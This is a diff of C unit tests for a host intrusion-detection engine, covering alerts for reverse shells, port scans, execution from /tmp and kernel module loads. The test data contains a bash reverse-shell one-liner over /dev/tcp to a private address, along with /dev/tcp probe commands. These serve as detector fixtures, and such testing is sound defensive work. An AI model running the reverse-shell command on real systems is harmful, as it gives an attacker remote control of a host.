@@ -348,6 +348,8 @@ Test(detect, malformed_rules_are_refused_with_position)
 	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: X1\nquery:\nDeviceInfo\n",
 		 "mitre 'X1' is not an ATT&CK technique");
 	bad_rule("title: t\nseverity: Low\ncolour: c\n", "bad.rule:3:1: unknown key 'colour'");
+	bad_rule("title: t\nseverity: Low\nwindow: 10 minutes\n",
+		 "bad.rule:3:9: '10 minutes' is not a duration");
 	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\n", "no 'query:' section");
 	bad_rule("title: t\nseverity: Low\ncategory: c\nmitre: T1000\nquery:\n"
 		 "DeviceProcessEvents | project FileName\n",
@@ -385,4 +387,161 @@ Test(detect, rule_for_a_missing_table_waits_for_it)
 	vg_detect_nrules(d2, &waiting);
 	cr_expect_eq(waiting, 0);
 	vg_detect_close(d2);
+}
+
+/* A connection attempt by pid (child of ppid) at ts (NULL: now). */
+static void probe(const char *ts, const char *ip, int port, int pid, const char *by, int ppid,
+		  const char *parent_by)
+{
+	sql("INSERT INTO DeviceNetworkEvents (Timestamp, DeviceId, ActionType, ReportId, RemoteIP,"
+	    " RemotePort, Protocol, InitiatingProcessId, InitiatingProcessFileName,"
+	    " InitiatingProcessParentId, InitiatingProcessParentFileName) VALUES"
+	    " (%s, 'd1', 'ConnectionAttempt', %d, %Q, %d, 'Tcp', %d, %Q, %d, %Q)",
+	    ts ? sqlite3_mprintf("%Q", ts) : "strftime('%Y-%m-%dT%H:%M:%fZ', 'now')", ++report_id,
+	    ip, port, pid, by, ppid, parent_by);
+}
+
+static long long alert_col(const char *rule, const char *col)
+{
+	return qint("SELECT %s FROM AlertInfo WHERE RuleId = '%s'", col, rule);
+}
+
+/*
+ * The probes of a loop of subshells (each a bash whose parent is the loop's
+ * bash) are one process tree: one alert, every probe its evidence, counted.
+ */
+Test(detect, subshells_of_one_shell_are_one_alert_with_a_count)
+{
+	for (int i = 0; i < 30; i++)
+		probe("2026-11-29T10:00:00.000Z", "10.0.0.9", 4444, 500 + i, "bash", 400, "bash");
+	/* the loop's shell itself, and another tree */
+	probe("2026-11-29T10:01:00.000Z", "10.0.0.9", 4444, 400, "bash", 300, "sshd");
+	probe("2026-11-29T10:01:00.000Z", "10.0.0.9", 4444, 900, "bash", 800, "sshd");
+	cr_assert_eq(vg_detect_run(det), 2);
+	cr_expect_eq(alerts("reverse_shell_net"), 2);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'reverse_shell_net'"
+			  " AND rowid = (SELECT min(rowid) FROM AlertInfo)"),
+		     31);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence WHERE AlertId = 'vg00000001'"), 31);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertInfo WHERE AlertId = 'vg00000001' AND"
+			  " FirstActivity = '2026-11-29T10:00:00.000Z' AND"
+			  " LastActivity = '2026-11-29T10:01:00.000Z'"),
+		     1);
+	/* 9 minutes later: the same alert; 11 minutes after its first: a new one */
+	probe("2026-11-29T10:09:59.000Z", "10.0.0.9", 4444, 531, "bash", 400, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	probe("2026-11-29T10:10:00.000Z", "10.0.0.9", 4444, 532, "bash", 400, "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE AlertId = 'vg00000001'"), 32);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE AlertId = 'vg00000003'"), 1);
+}
+
+/*
+ * Loopback probes are no reverse shell; 20 ports of one address by one tree
+ * are a port scan whose evidence is every attempt, those of earlier runs too.
+ */
+Test(detect, port_scan_counts_every_probe_and_a_probe_is_no_reverse_shell)
+{
+	for (int i = 0; i < 19; i++)
+		probe(NULL, "127.0.0.1", 1000 + i, 600 + i, "bash", 599, "bash");
+	probe(NULL, "::1", 5432, 700, "bash", 1, "make");
+	/* 19 ports, and 20 ports by different trees */
+	for (int i = 0; i < 20; i++)
+		probe(NULL, "127.0.0.1", 2000 + i, 800 + i, "nc", 799 + i, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+	probe(NULL, "127.0.0.1", 1019, 619, "bash", 599, "bash");
+	probe(NULL, "127.0.0.1", 1019, 620, "bash", 599, "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alerts("port_scan"), 1);
+	cr_expect_eq(alert_col("port_scan", "EvidenceCount"), 21);
+	cr_expect_eq(qint("SELECT count(DISTINCT SourceRowId) FROM AlertEvidence"), 21);
+	probe(NULL, "127.0.0.1", 1020, 621, "bash", 599, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(alert_col("port_scan", "EvidenceCount"), 22);
+	cr_expect_eq(qint("SELECT count(*) FROM AlertEvidence"), 22);
+}
+
+static void exec_ev(const char *folder, const char *cmd, const char *fields)
+{
+	int id = ++report_id;
+
+	sql("INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
+	    " FolderPath, ProcessId, ProcessCommandLine, InitiatingProcessId,"
+	    " InitiatingProcessFileName, AdditionalFields) VALUES (" NOW ", 'd1', 'ProcessCreated',"
+	    " %d, %Q, %Q, %d, %Q, %d, 'x', %Q)",
+	    id, strrchr(folder, '/') + 1, folder, 3000 + id, cmd, 2000 + id, fields);
+}
+
+Test(detect, reverse_shell_near_misses)
+{
+	static const char sock[] = "{\"StdinSocket\":true,\"StdoutSocket\":true}";
+
+	/* a wrapper script and a -c command serving a socket; probes; a socket on stdin only */
+	exec_ev("/bin/sh", "/bin/sh /opt/vigil/wrapper --transport stdio", sock);
+	exec_ev("/bin/sh", "/bin/sh -c 'exec /opt/vigil/vigild'", sock);
+	exec_ev("/bin/bash", "bash", "{\"StdinSocket\":true}");
+	exec_ev("/bin/bash", "bash -c 'echo > /dev/tcp/127.0.0.1/5432'", "{}");
+	exec_ev("/bin/bash", "bash -c '< /dev/tcp/db/5432'", "{}");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+
+	exec_ev("/bin/sh", "sh", sock);
+	exec_ev("/bin/bash", "bash -li", sock);
+	exec_ev("/bin/bash", "bash -c 'exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5'", "{}");
+	cr_assert_eq(vg_detect_run(det), 3);
+	cr_expect_eq(alerts("reverse_shell_stdio"), 2);
+	cr_expect_eq(alerts("reverse_shell"), 1);
+}
+
+Test(detect, exec_from_tmp_spares_what_a_linker_wrote)
+{
+	fileev("d1", "FileCreated", "/tmp/b/tests/unit_tests", "x86_64-linux-gnu-ld.bfd");
+	fileev("d1", "FileCreated", "/tmp/conftest", "collect2");
+	proc("d1", "ProcessCreated", "/tmp/b/tests/unit_tests", "./tests/unit_tests", "make");
+	proc("d1", "ProcessCreated", "/tmp/conftest", "./conftest", "sh");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+	/* written by anything else, or by a linker on another path */
+	fileev("d1", "FileCreated", "/tmp/dropper", "python3");
+	fileev("d1", "FileCreated", "/tmp/ld", "curl");
+	proc("d1", "ProcessCreated", "/tmp/dropper", "/tmp/dropper", "bash");
+	proc("d1", "ProcessCreated", "/tmp/ld", "/tmp/ld", "bash");
+	proc("d1", "ProcessCreated", "/tmp/b/tests/unit_tests2", "x", "bash");
+	cr_assert_eq(vg_detect_run(det), 3);
+}
+
+Test(detect, a_refused_load_is_an_attempt)
+{
+	sql("INSERT INTO DeviceEvents (Timestamp, DeviceId, ActionType, ReportId,"
+	    " InitiatingProcessId, InitiatingProcessFileName, AdditionalFields) VALUES"
+	    " (" NOW ", 'd1', 'KernelModuleLoad', 1, 50, 'insmod', '{\"Result\":-2}'),"
+	    " (" NOW ", 'd1', 'KernelModuleLoad', 2, 50, 'insmod', '{\"Result\":-17}'),"
+	    " (" NOW ", 'd1', 'KernelModuleLoad', 3, 51, 'insmod', '{\"Result\":0}')");
+	cr_assert_eq(vg_detect_run(det), 2);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = "
+			  "'kernel_load_attempt' AND Title LIKE '%%attempted%%'"),
+		     2);
+	cr_expect_eq(qint("SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'kernel_load' AND"
+			  " Title = 'Kernel module or BPF program loaded'"),
+		     1);
+}
+
+/* A store whose AlertInfo predates the count columns gets them. */
+Test(detect, an_older_alert_table_gets_the_new_columns)
+{
+	struct vg_sb why;
+
+	vg_detect_close(det);
+	sql("DROP TABLE AlertInfo");
+	sql("CREATE TABLE AlertInfo (Timestamp TEXT NOT NULL, AlertId TEXT, Title TEXT NOT NULL,"
+	    " Category TEXT, Severity TEXT, DetectionSource TEXT, AttackTechniques TEXT,"
+	    " RuleId TEXT, DeviceId TEXT, DeviceName TEXT, Description TEXT,"
+	    " GroupKey TEXT NOT NULL UNIQUE)");
+	vg_sb_init(&why);
+	cr_assert_eq(vg_detect_open(&det, db, "rules", &why), 0, "%s", vg_sb_str(&why));
+	vg_sb_free(&why);
+	proc("d1", "ProcessCreated", "/tmp/one", "one", "bash");
+	cr_assert_eq(vg_detect_run(det), 1);
+	cr_expect_eq(alert_col("exec_from_tmp", "EvidenceCount"), 1);
 }
